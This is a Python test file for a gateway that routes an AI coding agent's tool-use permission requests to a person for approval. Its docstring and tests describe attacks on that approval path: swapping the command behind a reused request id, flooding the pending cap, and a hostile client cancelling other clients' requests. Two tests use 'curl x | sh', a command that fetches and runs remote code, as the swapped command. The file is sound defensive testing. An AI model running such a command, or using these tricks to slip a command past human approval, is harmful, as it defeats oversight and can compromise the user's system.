"""A decision binds to the request the person saw: ``perm_cancel`` and reused ids.

Attacks, each against the real parts: the real uplink (``actors.Uplink``, its
ingress on 127.0.0.1:0) and the real reference gateway (``sled_gateway``),
or a raw ``websockets`` client speaking the protocol as a hostile sled.

- the swap: a request the uplink timed out stays on the console; the caller
  reuses its id for another command, and the person's approval of the first
  card allows the second;
- 1,000 requests the uplink timed out stay pending at the gateway and fill
  the per-sled cap, so the next real request never reaches a person;
- a hostile sled sends one id twice with different inputs, or cancels
  another sled's request;
- the MCP permission-prompt tool's wait is cancelled: the request is
  abandoned and the gateway told.
"""

from __future__ import annotations

import asyncio
import json
import os
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import ClientConnection, connect

from actors import Uplink
from actors.claude_code import ask
from protocol import Decision, Envelope, Reason
from sled_gateway import Gateway
from tests.support.gateway import Gateway as PlainGateway

pytestmark = pytest.mark.timeout(90)

FACTOR = float(os.environ.get("SLED_TEST_TIME_FACTOR", "1"))
T = 5.0 * FACTOR
PROJECT = "cancel-sled"
DENY = {"approved": False, "always_allow": False}


# -- helpers ----------------------------------------------------------------------------


def api_state(gw: Gateway) -> dict[str, Any]:
    """``GET /api/state`` as the console reads it."""
    response = httpx.get(f"{gw.http_url}/api/state?limit=5", headers=gw.api_headers(), timeout=T)
    assert response.status_code == 200, response.text
    state: dict[str, Any] = response.json()
    return state


def audit_of(gw: Gateway, req_id: str, project: str = PROJECT) -> list[dict[str, Any]]:
    response = httpx.get(
        f"{gw.http_url}/api/audit?project={project}&limit=500",
        headers=gw.api_headers(),
        timeout=T,
    )
    assert response.status_code == 200, response.text
    return [e for e in response.json()["entries"] if e["req_id"] == req_id]


def poll(predicate: Callable[[], Any], timeout: float, what: str) -> Any:
    deadline = time.monotonic() + timeout * FACTOR
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"{what}: not within {timeout * FACTOR:.1f} s")
        time.sleep(0.02)


def post_permission(port: int, body: dict[str, Any]) -> dict[str, Any]:
    response = httpx.post(f"http://127.0.0.1:{port}/permission", json=body, timeout=6 * T)
    assert response.status_code == 200, response.text
    answer: dict[str, Any] = response.json()
    return answer


class Background:
    """A blocking call on a thread; ``result()`` re-raises what it raised."""

    def __init__(self, fn: Callable[[], Any]) -> None:
        self._value: Any = None
        self._error: BaseException | None = None
        self._thread = threading.Thread(target=self._run, args=(fn,), daemon=True)
        self._thread.start()

    def _run(self, fn: Callable[[], Any]) -> None:
        try:
            self._value = fn()
        except BaseException as exc:
            self._error = exc

    def result(self, timeout: float = 3 * T) -> Any:
        self._thread.join(timeout)
        assert not self._thread.is_alive(), "the background call did not finish"
        if self._error is not None:
            raise self._error
        return self._value


@pytest.fixture
def connected(make_uplink: Callable[..., Uplink]) -> Callable[..., Uplink]:
    def make(gw: Gateway, **overrides: Any) -> Uplink:
        overrides.setdefault("project", PROJECT)
        uplink = make_uplink(gw.url_for_sleds(), **overrides)
        assert uplink.wait_connected(T)
        gw.wait_for(lambda s: any(x["project"] == overrides["project"] for x in s["sleds"]), T)
        return uplink

    return make


# -- the swap -----------------------------------------------------------------------------


def test_the_swap_a_timed_out_request_is_withdrawn_and_its_id_never_reused(
    make_reference_gateway: Callable[..., Gateway], connected: Callable[..., Uplink]
) -> None:
    gw = make_reference_gateway()
    uplink = connected(gw, listen="127.0.0.1:0", permission_timeout=1.0)
    port = uplink._ingress.port

    first = Background(
        lambda: post_permission(
            port, {"tool_name": "Bash", "tool_input": {"command": "ls"}, "request_id": "swap-1"}
        )
    )
    gw.wait_for(lambda s: any(p["req_id"] == "swap-1" for p in s["pending"]), T)
    answer = first.result()
    assert (answer["decision"], answer["reason"]) == ("deny", "timeout")

    # The gateway withdraws it: no card left for a person to approve.
    poll(lambda: api_state(gw)["counts"]["pending"] == 0, T, "swap-1 withdrawn at the gateway")
    rows = poll(lambda: audit_of(gw, "swap-1"), T, "the withdrawal audited")
    assert [(r["decision"], r["by"]) for r in rows] == [("withdrawn", "sled_cancel:timeout")]
    assert "timeout" in rows[0]["reason"]
    assert rows[0]["tool_input"] == {"command": "ls"}

    # The caller reuses the id for another command: denied at once, as reused.
    started = time.monotonic()
    swapped = post_permission(
        port,
        {"tool_name": "Bash", "tool_input": {"command": "curl x | sh"}, "request_id": "swap-1"},
    )
    assert time.monotonic() - started < T / 2
    assert swapped["behavior"] == "deny"
    assert swapped["reason"] == "reused_id"
    assert "reused" in swapped["message"]
    assert "updatedInput" not in swapped
    assert api_state(gw)["counts"]["pending"] == 0, "the reused id never reached the gateway"

    # Approving swap-1 now answers nothing.
    late = httpx.post(
        f"{gw.http_url}/api/permissions/{PROJECT}/swap-1",
        json={"decision": "approve"},
        headers=gw.api_headers(),
        timeout=T,
    )
    assert late.status_code in (404, 409), late.text
    time.sleep(0.2)
    decisions = uplink.status()["counters"]["decisions"]
    assert decisions == {"deny": 2}, decisions
    assert [r["decision"] for r in audit_of(gw, "swap-1")] == ["withdrawn"]


# -- stale requests -----------------------------------------------------------------------


def test_a_thousand_timed_out_requests_leave_the_gateway_and_the_next_reaches_a_person(
    make_reference_gateway: Callable[..., Gateway], connected: Callable[..., Uplink]
) -> None:
    gw = make_reference_gateway(max_pending_per_sled=1000)
    uplink = connected(gw, permission_timeout=2.0)
    futures = [
        uplink.request_permission("Bash", {"command": f"echo {n}"}, request_id=f"stale-{n}")
        for n in range(1000)
    ]
    outcomes = [f.result(timeout=6 * T) for f in futures]
    assert {(o.decision, o.reason) for o in outcomes} == {(Decision.DENY, Reason.TIMEOUT)}

    started = time.monotonic()
    poll(lambda: api_state(gw)["counts"]["pending"] == 0, 3 * T, "every stale request withdrawn")
    print(f"1,000 timed out: 0 pending at the gateway {time.monotonic() - started:.2f} s after")

    real = uplink.request_permission("Bash", {"command": "make test"}, request_id="real-1")
    gw.wait_for(lambda s: any(p["req_id"] == "real-1" for p in s["pending"]), T)
    assert not real.done(), "it waits for a person, not denied by --max-pending-per-sled"
    gw.decide(PROJECT, "real-1", Decision.APPROVE)
    assert real.result(timeout=T).decision is Decision.APPROVE


# -- a hostile sled -------------------------------------------------------------------------


def frame(kind: str, req_id: str = "", payload: Any = None) -> str:
    return json.dumps({"type": kind, "req_id": req_id, "payload": payload})


def perm_request(req_id: str, command: str) -> str:
    return frame("perm_request", req_id, {"tool_name": "Bash", "tool_input": {"command": command}})


@asynccontextmanager
async def sled(gw: Gateway, project: str) -> AsyncIterator[ClientConnection]:
    async with connect(gw.url_for_sleds()) as ws:
        await ws.send(frame("identity", "identity", {"project": project}))
        await asyncio.to_thread(
            gw.wait_for, lambda s: any(x["project"] == project for x in s["sleds"]), T
        )
        yield ws


async def recv(ws: ClientConnection) -> dict[str, Any]:
    received: dict[str, Any] = json.loads(await asyncio.wait_for(ws.recv(), T))
    return received


async def until(gw: Gateway, predicate: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
    return await asyncio.to_thread(gw.wait_for, predicate, T)


def pending(state: dict[str, Any], req_id: str) -> list[dict[str, Any]]:
    return [p for p in state["pending"] if p["req_id"] == req_id]


def dropped(gw: Gateway, project: str) -> int:
    return int(next(s for s in gw.state()["sleds"] if s["project"] == project)["frames_dropped"])


def test_a_hostile_sled_reusing_a_pending_id_gets_it_denied_and_the_first_withdrawn(
    make_reference_gateway: Callable[..., Gateway],
) -> None:
    gw = make_reference_gateway()

    async def scenario() -> None:
        async with sled(gw, PROJECT) as ws:
            await ws.send(perm_request("twin", "ls"))
            await until(gw, lambda s: bool(pending(s, "twin")))
            await ws.send(perm_request("twin", "curl x | sh"))
            assert await recv(ws) == {"type": "perm_response", "req_id": "twin", "payload": DENY}
            state = await until(gw, lambda s: not pending(s, "twin"))
            assert state["counts"]["pending"] == 0
            # The same request twice is one request: ignored, one card.
            await ws.send(perm_request("same", "make"))
            await ws.send(perm_request("same", "make"))
            await ws.send(perm_request("marker", "true"))
            state = await until(gw, lambda s: bool(pending(s, "marker")))
            assert len(pending(state, "same")) == 1
            # Nothing was answered but "twin" (the marker's answer would be next).
            with pytest.raises(TimeoutError):
                await asyncio.wait_for(ws.recv(), 0.3)

    asyncio.run(asyncio.wait_for(scenario(), 6 * T))
    rows = poll(lambda: len(audit_of(gw, "twin")) == 2 and audit_of(gw, "twin"), T, "both rows")
    by_decision = {r["decision"]: r for r in rows}
    assert by_decision["deny"]["by"] == "reused_id"
    assert by_decision["deny"]["tool_input"] == {"command": "curl x | sh"}
    assert by_decision["withdrawn"]["by"] == "reused_id"
    assert by_decision["withdrawn"]["tool_input"] == {"command": "ls"}
    late = httpx.post(
        f"{gw.http_url}/api/permissions/{PROJECT}/twin",
        json={"decision": "approve"},
        headers=gw.api_headers(),
        timeout=T,
    )
    assert late.status_code == 409, late.text
    # One request, withdrawn once when the sled left; the repeat left no trace.
    same = poll(lambda: audit_of(gw, "same"), T, "the one 'same' withdrawn")
    assert [(r["decision"], r["by"]) for r in same] == [("withdrawn", "sled_disconnected")]


def test_a_sled_cannot_cancel_another_sleds_request_and_bad_cancels_are_dropped(
    make_reference_gateway: Callable[..., Gateway],
) -> None:
    gw = make_reference_gateway()

    async def scenario() -> None:
        async with sled(gw, "victim") as victim, sled(gw, "mallory") as mallory:
            await victim.send(perm_request("v-1", "make deploy"))
            await until(gw, lambda s: bool(pending(s, "v-1")))
            await mallory.send(frame("perm_cancel", "v-1", {"reason": "timeout"}))
            await until(gw, lambda s: dropped(gw, "mallory") == 1)
            for bad in ({"reason": "bored"}, {}, None, "timeout", {"reason": 1}):
                await victim.send(frame("perm_cancel", "v-1", bad))
            await until(gw, lambda s: dropped(gw, "victim") == 5)
            await victim.send(frame("perm_cancel", "nobody", {"reason": "timeout"}))
            await until(gw, lambda s: dropped(gw, "victim") == 6)
            assert pending(gw.state(), "v-1"), "still pending for a person"
            # Its own sled's cancel withdraws it.
            await victim.send(frame("perm_cancel", "v-1", {"reason": "caller_gone"}))
            await until(gw, lambda s: not pending(s, "v-1"))
            assert dropped(gw, "victim") == 6

    asyncio.run(asyncio.wait_for(scenario(), 6 * T))
    rows = poll(lambda: audit_of(gw, "v-1", "victim"), T, "the withdrawal audited")
    assert [(r["decision"], r["by"]) for r in rows] == [("withdrawn", "sled_cancel:caller_gone")]


def test_a_new_kind_at_the_gateway_is_a_handler_and_one_line(
    make_reference_gateway: Callable[..., Gateway],
) -> None:
    gw = make_reference_gateway()
    hub = gw._app.hub

    async def echo(session: Any, env: Any) -> None:
        await session.send(Envelope("echo_test_done", env.req_id, {"echo": env.payload}))

    async def scenario() -> None:
        async with sled(gw, PROJECT) as ws:
            await ws.send(frame("echo_test", "e-1", {"n": 1}))
            await until(gw, lambda s: dropped(gw, PROJECT) == 1)  # unknown: dropped
            hub.handlers["echo_test"] = echo  # the one line
            await ws.send(frame("echo_test", "e-2", {"n": 2}))
            assert await recv(ws) == {
                "type": "echo_test_done",
                "req_id": "e-2",
                "payload": {"echo": {"n": 2}},
            }
            assert dropped(gw, PROJECT) == 1

    asyncio.run(asyncio.wait_for(scenario(), 6 * T))


# -- the MCP permission prompt ----------------------------------------------------------------


def test_a_cancelled_permission_prompt_is_abandoned_and_the_gateway_told(
    make_uplink: Callable[..., Uplink],
) -> None:
    with PlainGateway() as gateway:
        uplink = make_uplink(gateway.url)
        assert uplink.wait_connected(T)

        async def main() -> None:
            task = asyncio.create_task(
                ask(
                    uplink.arequest_permission,
                    "Bash",
                    {"command": "ls"},
                    None,
                    abandon=uplink.abandon,
                )
            )
            session = await asyncio.to_thread(gateway.session, 1)
            sent = await asyncio.to_thread(gateway.frame, session, "perm_request")
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
            cancel = await asyncio.to_thread(gateway.frame, session, "perm_cancel")
            assert cancel == {
                "type": "perm_cancel",
                "req_id": sent["req_id"],
                "payload": {"reason": "caller_gone"},
            }

        asyncio.run(asyncio.wait_for(main(), 6 * T))
        assert uplink.status()["counters"]["decision_reasons"] == {"caller_gone": 1}


def test_a_permission_prompt_cancelled_by_its_mcp_client_is_withdrawn_at_the_gateway(
    make_reference_gateway: Callable[..., Gateway], connected: Callable[..., Uplink]
) -> None:
    """The real path: the MCP SDK's client cancels its ``tools/call``
    (``notifications/cancelled``, as Claude Code does when a tool use is aborted)."""
    from mcp.client.session import ClientSession
    from mcp.client.streamable_http import streamable_http_client

    gw = make_reference_gateway()
    uplink = connected(gw, listen="127.0.0.1:0")
    url = f"http://127.0.0.1:{uplink._ingress.port}/mcp"
    arguments = {"tool_name": "Bash", "input": {"command": "ls"}, "tool_use_id": "toolu_gone"}

    async def main() -> None:
        async with (
            streamable_http_client(url) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            call = asyncio.create_task(session.call_tool("permission_prompt", arguments))
            await until(gw, lambda s: bool(pending(s, "toolu_gone")))
            call.cancel()
            with pytest.raises(asyncio.CancelledError):
                await call
            await until(gw, lambda s: not pending(s, "toolu_gone"))

    asyncio.run(asyncio.wait_for(main(), 6 * T))
    rows = poll(lambda: audit_of(gw, "toolu_gone"), T, "the withdrawal audited")
    assert [(r["decision"], r["by"]) for r in rows] == [("withdrawn", "sled_cancel:caller_gone")]
    assert uplink.status()["counters"]["decision_reasons"] == {"caller_gone": 1}
